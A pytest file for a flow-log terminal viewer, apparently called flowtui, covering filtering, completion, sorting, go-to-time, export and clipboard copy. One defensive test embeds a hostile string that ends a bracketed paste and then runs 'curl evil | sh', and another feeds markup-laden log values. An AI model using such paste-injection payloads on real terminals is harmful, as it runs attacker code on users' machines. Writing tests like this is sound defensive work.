"""Filter bar, quick filters, sort, go to time and export, driven by keys against moto S3."""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from flowtui.ui.app import FlowtuiApp
from flowtui.ui.features.export.control import whole_rows
from flowtui.ui.features.jobs.export import write_csv
from flowtui.ui.widgets.prompt.history import state_dir
from tests.conftest import DAY, _default_key, flow_lines, scratch, text_object
from tests.ui_helpers import press, screen_text, wait_for

MEDIUM_RECORDS = 3_000


@pytest.fixture(scope="module")
def medium(s3_server: Any) -> Iterator[str]:
    """A 3,000-record object (NODATA rows among them) in a bucket of this module's own,
    read-only to the tests. Filtering, sorting, going to a time and exporting prove the same
    on it as on the 30,000-record "big" object, with a tenth of the rows to load, sort and
    compare; the test of a filter set during a load keeps "big" (it needs a load that
    lasts)."""
    account, region, stamp = "555555555555", "us-east-1", DAY.replace(hour=12)
    lines = flow_lines(MEDIUM_RECORDS, seed=7002, account=account, stamp=stamp, region=region)
    key = _default_key("medium/", account, region, "fl-0555", stamp, "cd000001")
    with scratch(s3_server) as (bucket, raw):
        raw.put_object(Bucket=bucket, Key=key, Body=text_object(lines))
        yield f"s3://{bucket}/{key}"


def text(pilot: Any) -> str:
    return "\n".join(screen_text(pilot))


async def loaded(pilot: Any, app: FlowtuiApp) -> None:
    await wait_for(pilot, lambda: app.job is not None and not app.job.status.running
                   and app.job.worker is not None and app.job.worker.is_finished,
                   timeout=30, what="load finished")
    app.table.refresh_now()
    app.table.focus()
    await pilot.pause()


def rows(app: FlowtuiApp) -> list[dict[str, object]]:
    source = app.table.store
    assert source is not None
    return source.rows(0, len(source))


def store_rows(app: FlowtuiApp) -> list[dict[str, object]]:
    store = app.shown.records
    assert store is not None
    return store.rows(0, len(store))


async def to_column(pilot: Any, app: FlowtuiApp, name: str) -> None:
    """Move the cell cursor to column ``name`` with the keyboard."""
    await press(pilot, "0")
    for _ in range(len(app.table.columns)):
        if app.table.current_column == name:
            return
        await press(pilot, "l")
    raise AssertionError(f"no column {name}")


async def sorted_done(pilot: Any, app: FlowtuiApp) -> None:
    await wait_for(pilot, lambda: not app.sorts.running and not app.status.note
                   and app.shown.view is not None and not app.shown.view.stale,
                   timeout=20, what="sort finished")


def rejected_on_22(row: dict[str, object]) -> bool:
    return row["action"] == "REJECT" and 22 in (row["srcport"], row["dstport"])


async def test_a_filter_typed_with_an_error_then_fixed(medium: str, s3_client: Any) -> None:
    app = FlowtuiApp(medium, client=s3_client)
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        total = app.table.row_count
        await press(pilot, "slash")
        assert app.main_screen.prompt.is_open
        await press(pilot, *"reject and prot = 22")
        message = app.main_screen.prompt.message
        assert "unknown field 'prot'" in message and "^" in message
        # the caret sits under the bad word: same column on screen as the 'p' of 'prot'
        lines = screen_text(pilot)
        typed = next(i for i, line in enumerate(lines) if "reject and prot = 22" in line)
        assert lines[typed + 1].index("^") == lines[typed].index("prot = 22")
        await press(pilot, "enter")  # refused: nothing applied, the bar stays
        assert app.main_screen.prompt.is_open and app.table.row_count == total
        for _ in range(len(" = 22")):
            await press(pilot, "backspace")
        await press(pilot, "backspace", "backspace", "backspace", "backspace")
        await press(pilot, *"port 22")
        assert "Enter applies" in app.main_screen.prompt.message
        await press(pilot, "enter")
        expected = [r for r in store_rows(app) if rejected_on_22(r)]
        assert 0 < len(expected) < total
        assert not app.main_screen.prompt.is_open and app.focused is app.table
        assert rows(app) == expected
        screen = text(pilot)
        assert f"{len(expected):,} of {total:,} match" in screen
        assert "filter reject › port 22" in screen
        # kept across runs, in the state directory the tests point elsewhere
        assert (state_dir() / "filter-history").read_text().splitlines() == [
            "reject and port 22"]
        # Esc closes the bar; a second Esc (in the table) clears the filter
        await press(pilot, "slash")
        await press(pilot, "escape")
        assert not app.main_screen.prompt.is_open and app.table.row_count == len(expected)
        await press(pilot, "escape")
        assert app.table.row_count == total and "match" not in text(pilot)
        # ↑ in the bar brings the filter back
        await press(pilot, "slash", "up")
        assert app.main_screen.prompt.input.value == "reject and port 22"
        await press(pilot, "enter")
        assert app.table.row_count == len(expected)


async def test_completion_of_field_names_and_seen_values(medium: str,
                                                         s3_client: Any) -> None:
    """As a shell does: Tab adds what every candidate shares, and when several fit they are
    listed under the input until the text changes; one candidate is completed whole. Field
    names and the values seen in the loaded records alike. (Two tests before, one app each:
    the second part, after Ctrl+U, was test_tab_completes_the_common_prefix_and_lists_the_
    candidates.) Then, the bar closed, quick filters from the cursor (= keeps the value under
    it, ! excludes an address both ways, + adds a step) and Backspace pops them one at a
    time (a test of its own before, with an app of its own)."""
    app = FlowtuiApp(medium, client=s3_client)
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        interface = store_rows(app)[0]["interface-id"]
        assert isinstance(interface, str)
        await press(pilot, "slash", *"interf")
        bar = app.main_screen.prompt
        box = bar.input
        await press(pilot, "tab")  # interface-id, -type, -tag: as far as they agree
        assert box.value == "interface-" and "interface-id" in bar.message
        await press(pilot, "i", "tab")
        assert box.value == "interface-id"
        await press(pilot, *" = ", *interface[:6])
        await press(pilot, "tab")
        assert box.value.startswith(f"interface-id = {interface[:6]}")
        seen = {r["interface-id"] for r in store_rows(app)}
        typed = box.value.removeprefix("interface-id = ")
        fits = sorted(v for v in seen if isinstance(v, str) and v.startswith(typed))
        assert typed in seen or len(fits) > 1  # whole when one fits, else as far as all agree
        assert typed == os.path.commonprefix(fits)
        await press(pilot, "ctrl+u", *"sr")
        assert box.value == "sr"
        await press(pilot, "tab")
        assert box.value == "src"  # srcaddr, srcport and the keyword src share "src"
        listed = bar.message
        assert "fit:" in listed and "srcaddr" in listed and "srcport" in listed, listed
        await press(pilot, "p")
        await wait_for(pilot, lambda: "fit:" not in bar.message, what="the list cleared")
        await press(pilot, "tab")
        assert box.value == "srcport"
        assert "fit:" not in bar.message
        await press(pilot, "escape")  # nothing applied
        assert not bar.is_open and not app.shown.query.where_text
        # quick filters from the cursor, and Backspace pops them (a test of its own before)
        everything = store_rows(app)
        await to_column(pilot, app, "dstport")
        port = rows(app)[0]["dstport"]
        await press(pilot, "equals_sign")
        assert app.shown.query.where_text == f"dstport = {port}"
        assert rows(app) == [r for r in everything if r["dstport"] == port]
        # the breadcrumb and the bar show the same text, to refine it
        assert f"filter dstport = {port}" in text(pilot)
        # an address, excluded: in both directions (``not host X``)
        await to_column(pilot, app, "srcaddr")
        address = rows(app)[0]["srcaddr"]
        await press(pilot, "exclamation_mark")
        assert rows(app) == [r for r in everything if r["dstport"] == port
                             and address not in (r["srcaddr"], r["dstaddr"])]
        assert f"dstport = {port} › not host {address}" in text(pilot)
        await to_column(pilot, app, "action")
        action = rows(app)[0]["action"]
        await press(pilot, "plus")
        assert app.shown.query.where_text.endswith(f"and action = {action}")
        assert rows(app) == [r for r in everything if r["dstport"] == port
                             and address not in (r["srcaddr"], r["dstaddr"])
                             and r["action"] == action]
        # Backspace pops the last step, one at a time
        await press(pilot, "backspace")
        assert app.shown.query.where_text == f"dstport = {port} and not host {address}"
        await press(pilot, "backspace", "backspace")
        assert app.shown.query.where_text == ""
        assert app.table.row_count == len(everything) and "filter" not in text(pilot)


async def test_tab_offers_only_values_that_read_back_as_themselves(tmp_path: Path) -> None:
    """Tab after ``field =`` completes values seen in the records; damaged or hostile data
    holds values that, typed after ``=``, do not keep their own records: ``eni-[bold]x[/]``
    was completed whole, read as a glob, and Enter said "No record matches the filter";
    ``action = [red]ACC`` was completed into an error. They are not offered; the quick
    filter (``=`` on the cell) writes them exactly."""
    header = ("version account-id interface-id srcaddr dstaddr srcport dstport protocol "
              "packets bytes start end action log-status")
    lines = [f"2 123456789012 {eni} {src} 10.0.0.1 1 22 6 1 40 1700000000 1700000010 "
             f"{action} OK" for eni, src, action in [
                 ("eni-[bold]x[/]", "10.0.0.5", "ACCEPT"), ("eni-1", "[x]", "[red]ACC"),
                 ("eni-1", "10.0.0.6", "REJECT")]]
    log = tmp_path / "damaged.log"
    log.write_text(header + "\n" + "\n".join(lines) + "\n")
    app = FlowtuiApp(str(log), names=None)
    async with app.run_test(size=(120, 30)) as pilot:
        await wait_for(pilot, lambda: app.table.row_count == 3, what="the records")
        app.table.focus()
        await press(pilot, "slash", *"interface-id = eni-[")
        box = app.main_screen.prompt.input
        await press(pilot, "tab")
        assert box.value == "interface-id = eni-["  # nothing completed
        await press(pilot, "ctrl+u", *"action = [", "tab")
        assert box.value == "action = ["
        await press(pilot, "ctrl+u", *"host [", "tab")
        assert box.value == "host ["  # host takes an address, never a damaged value
        await press(pilot, "ctrl+u", *"interface-id = e", "tab")
        assert box.value == "interface-id = eni-1"  # the one value = reads back
        await press(pilot, "enter")
        await wait_for(pilot, lambda: app.table.row_count == 2, what="eni-1's records")


async def test_sort_cycles_on_the_column_under_the_cursor_then_go_to_time(
        medium: str, s3_client: Any) -> None:
    """s cycles ascending (nulls last), descending, off (the load order back); then @ goes
    to the first record at or after a time, and a bad time says why and goes nowhere. Two
    tests before, one app each."""
    app = FlowtuiApp(medium, client=s3_client)
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        load_order = store_rows(app)
        await to_column(pilot, app, "bytes")
        await press(pilot, "s")
        await sorted_done(pilot, app)
        shown = rows(app)
        values = [r["bytes"] for r in shown if r["bytes"] is not None]
        assert values == sorted(values) and shown[-1]["bytes"] is None  # nulls last
        header = next(line for line in screen_text(pilot) if "││! " in line)
        assert "bytes ▲" in header and "sort bytes ▲" in text(pilot)
        await press(pilot, "s")
        await sorted_done(pilot, app)
        values = [r["bytes"] for r in rows(app) if r["bytes"] is not None]
        assert values == sorted(values, reverse=True)
        assert "bytes ▼" in text(pilot) and app.table.cursor_row == 0
        assert app.detail.record_index == 0
        await press(pilot, "s")
        await wait_for(pilot, lambda: app.shown.view is None, what="sort off")
        assert rows(app) == load_order
        assert "bytes " in text(pilot) and "▼" not in text(pilot) and "▲" not in text(pilot)
        # go to time, on the records in load order again (a test of its own before)
        starts = sorted(r["start"] for r in store_rows(app) if r["start"] is not None)
        middle = starts[len(starts) // 2]
        moment = datetime.fromtimestamp(middle, tz=UTC)
        clock = f"{moment:%H:%M}"
        target = int(moment.replace(second=0).timestamp())
        await press(pilot, "at", *clock)
        assert "Enter goes to the first record at or after" in app.main_screen.prompt.message
        await press(pilot, "enter")
        await wait_for(pilot, lambda: not app.sorts.running and not app.status.note,
                       timeout=20, what="go to time done")
        await wait_for(pilot, lambda: app.table.cursor_row > 0, what="cursor moved")
        shown = rows(app)
        row = app.table.cursor_row
        assert shown[row]["start"] >= target  # type: ignore[operator]
        assert all(r["start"] < target for r in shown[:row])  # type: ignore[operator]
        # a bad time says why, under the input, and goes nowhere
        await press(pilot, "at", *"25:99")
        assert "not a time" in app.main_screen.prompt.message
        await press(pilot, "enter")
        assert app.table.cursor_row == row
        await press(pilot, "escape")


async def test_export_writes_the_view_as_shown(medium: str, s3_client: Any,
                                               tmp_path: Path) -> None:
    """The filtered, sorted view to .csv, .jsonl and .parquet: each file holds the rows in
    the order shown, every column (folded ones too). One app writes all three (exporting
    leaves the view as it was); they were three tests, each loading and sorting again."""
    app = FlowtuiApp(medium, client=s3_client)
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        await press(pilot, "slash", *"reject", "enter")
        await to_column(pilot, app, "bytes")
        await press(pilot, "s", "s")  # descending
        await sorted_done(pilot, app)
        expected = rows(app)
        columns = app.table.view_columns
        assert "version" in columns and "version" not in app.table.columns  # folded
        for suffix in (".csv", ".jsonl", ".parquet"):
            await press(pilot, "w")
            box = app.main_screen.prompt.input
            assert box.value == "2024-03-05_reject.csv" or box.value.endswith("_reject.csv")
            target = tmp_path / f"rejects{suffix}"
            box.value = str(target)
            await press(pilot, "enter")
            await wait_for(pilot, lambda t=target: t.exists() and not app.status.note,
                           timeout=20, what="export written")
            await wait_for(pilot, lambda t=target: any(
                f"Wrote {len(expected):,} rows to {t} (raw " in n.message
                for n in app._notifications), what="rows written, in a notification")
            assert rows(app) == expected
            if suffix == ".parquet":
                back = pq.read_table(target).to_pylist()
                assert back == [{c: r.get(c) for c in columns} for r in expected]
            elif suffix == ".jsonl":
                back = [json.loads(line) for line in target.read_text().splitlines()]
                assert back == [{c: r.get(c) for c in columns} for r in expected]
            else:
                with target.open(newline="") as handle:
                    read = list(csv.reader(handle))
                assert read[0] == columns
                assert read[1:] == [["" if r.get(c) is None else str(r.get(c))
                                     for c in columns] for r in expected]


async def test_export_toast_names_the_absolute_path_then_copy_rows_as_csv(
        medium: str, s3_client: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A relative name is written in the current directory: the toast says where (whole
    path) and that the file holds the logged values even while the table shows them decoded.
    Then C copies the filtered view as CSV: its header, its rows, no control character.
    Two tests before, one app each."""
    monkeypatch.chdir(tmp_path)
    app = FlowtuiApp(medium, client=s3_client)
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        await press(pilot, "r")  # the table decodes
        assert app.table.decoded
        await press(pilot, "w")
        app.main_screen.prompt.input.value = "out.csv"
        await press(pilot, "enter")
        target = tmp_path / "out.csv"
        await wait_for(pilot, lambda: any(n.title == "Exported" for n in app._notifications),
                       timeout=20, what="export written")
        message = next(n.message for n in app._notifications if n.title == "Exported")
        assert f" rows to {target} (" in message, message
        assert "raw values as logged, not decoded" in message, message
        with target.open(newline="") as handle:
            header, first = list(csv.reader(handle))[:2]
        assert first[header.index("protocol")].isdigit()  # raw: 6, not TCP
        # C copies the view as CSV, with no control character (a test of its own before;
        # the table raw, as it was there)
        copied: list[str] = []
        app.copy_to_clipboard = copied.append  # type: ignore[method-assign]
        await press(pilot, "r")  # the table raw again
        assert not app.table.decoded
        await press(pilot, "slash", *"reject and port 22", "enter")
        await press(pilot, "C")
        assert copied, "nothing copied"
        lines = copied[0].split("\n")
        assert next(csv.reader(lines[:1])) == app.table.view_columns
        body = [line for line in lines[1:] if line]
        assert len(body) == min(500, app.table.row_count)  # a small view whole, else its top
        assert list(csv.reader(body[:3])) == [
            ["" if r.get(c) is None else str(r.get(c)) for c in app.table.view_columns]
            for r in rows(app)[:3]]
        assert all(line.isprintable() for line in lines)


async def test_a_failed_export_names_its_file_once(medium: str, s3_client: Any) -> None:
    """A file that can't be made is said in one line that names it once: the toast read
    '/proc/x.csv: /proc/x.csv: No such file or directory', the path twice, before."""
    target = "/proc/flowtui-cannot-write-here.csv"  # /proc makes no files, root or not
    app = FlowtuiApp(medium, client=s3_client)
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        await press(pilot, "w")
        app.main_screen.prompt.input.value = target
        await press(pilot, "enter")
        await wait_for(pilot, lambda: any(n.title == "Export failed"
                                          for n in app._notifications),
                       timeout=20, what="export refused")
        message = next(n.message for n in app._notifications if n.title == "Export failed")
        assert message.startswith(f"{target}: ") and message.count(target) == 1, message
        assert "\n" not in message and not os.path.exists(target)


def test_clipboard_csv_escapes_what_could_end_a_bracketed_paste() -> None:
    hostile = "x\x1b[201~\ncurl evil | sh\r\x9b31m\u202eabc"
    batch = pa.record_batch({"note": [hostile, None], "n": [1, 2]})
    out = io.StringIO()
    write_csv(out, [batch], ["note", "n"], None, keep_newlines=False)
    copied, count = whole_rows(out.getvalue())
    assert count == 2
    assert all(line.isprintable() for line in copied.split("\n"))
    assert "\\x1b[201~" in copied and "\\u202e" in copied
    assert copied.count("\n") == 3  # header and two rows: the only control characters


def test_clipboard_csv_keeps_whole_rows_within_its_size() -> None:
    out = io.StringIO()
    write_csv(out, [pa.record_batch({"note": ["y" * 40] * 10})], ["note"], None,
              keep_newlines=False)
    copied, count = whole_rows(out.getvalue(), limit=100)
    assert (count, copied) == (2, '"note"\n' + f'"{"y" * 40}"\n' * 2)
    assert whole_rows(out.getvalue(), limit=10)[1] == 1  # one row, whatever its size


async def test_a_filter_during_a_tail_shows_only_matching_new_rows(s3_server: Any,
                                                                   s3_client: Any,
                                                                   raw_s3: Any) -> None:
    from tests.tail_helpers import Bucket, lines_ports
    from tests.test_ui_tail import ACCOUNT, M, T, options, poll, started

    bucket = Bucket(raw_s3, "ui-filter-tail")
    bucket.put(T - 15 * M)  # the starting point, not shown
    app = FlowtuiApp(None, client=s3_client, follow=bucket.url(ACCOUNT),
                     tail_options=options())
    async with app.run_test(size=(100, 30)) as pilot:
        await started(pilot, app)
        await press(pilot, "slash", *"srcport > 30000", "enter")
        assert app.shown.query.where_text == "srcport > 30000"
        first = bucket.put(T - 10 * M, n=40)
        await poll(pilot, app)
        wanted = [p for p in lines_ports(first) if p is not None and p > 30000]
        await wait_for(pilot, lambda: app.table.row_count == len(wanted), what="matches shown")
        second = bucket.put(T - 5 * M, n=40)
        await poll(pilot, app)
        wanted += [p for p in lines_ports(second) if p is not None and p > 30000]
        await wait_for(pilot, lambda: app.table.row_count == len(wanted), what="more matches")
        assert [r["srcport"] for r in rows(app)] == wanted
        store = app.shown.records
        assert store is not None and len(store) == 80
        assert f"{len(wanted):,} of 80 match" in text(pilot)
        assert app.table.cursor_row == len(wanted) - 1  # following the matching rows



async def test_a_filter_set_during_a_load_applies_to_the_rest_of_it(
        s3_server: Any, fault_proxy: Any, proxy_client: Any) -> None:
    fault_proxy.stall_after(100_000, times=20)  # the load waits with some rows in
    app = FlowtuiApp(s3_server.find("big").url, client=proxy_client)
    async with app.run_test(size=(80, 24)) as pilot:
        await wait_for(pilot, lambda: app.table.row_count > 0 and fault_proxy.stalled.is_set(),
                       what="the first rows, then a stall")
        await press(pilot, "slash", *"reject and port 22", "enter")
        assert app.job is not None and app.job.status.running
        assert rows(app) and all(rejected_on_22(r) for r in rows(app))
        fault_proxy.release()
        await loaded(pilot, app)
        expected = [r for r in store_rows(app) if rejected_on_22(r)]
        assert len(store_rows(app)) == 30_000 and rows(app) == expected
        assert f"{len(expected):,} of 30,000 match" in text(pilot)


async def test_help_and_palette_list_the_new_keys(medium: str, s3_client: Any) -> None:
    from flowtui.ui.commands import app_commands
    from flowtui.ui.help import help_rows

    app = FlowtuiApp(medium, client=s3_client)
    async with app.run_test(size=(120, 40)) as pilot:
        await loaded(pilot, app)
        ids = {ident for scope in ("app", "table", "prompt")
               for _keys, _what, ident in help_rows(scope, app)}
        assert {"app.filter", "table.filter", "app.go-to-time", "app.export", "app.copy-view",
                "table.keep-value", "table.exclude-value", "table.pop-filter", "table.sort",
                "prompt.close", "prompt.older", "prompt.newer", "prompt.complete"} <= ids
        names = {command.name for command in app_commands(app)}
        assert {"Filter records", "Keep only this value", "Exclude this value",
                "Undo last filter step", "Clear filter", "Sort by this column", "Go to time",
                "Export view to a file", "Copy rows as CSV"} <= names
        # the footer is recomposed as the keys it shows change (blank in between: at load 15
        # it was when read at once); one read for both keys
        await wait_for(pilot, lambda: "/ Filter" in (footer := screen_text(pilot)[-1])
                       and "s Sort" in footer, what="the table's keys first in the footer")
        await pilot.resize_terminal(200, 40)
        await wait_for(pilot, lambda: "w Export" in screen_text(pilot)[-1],
                       what="the wider footer")
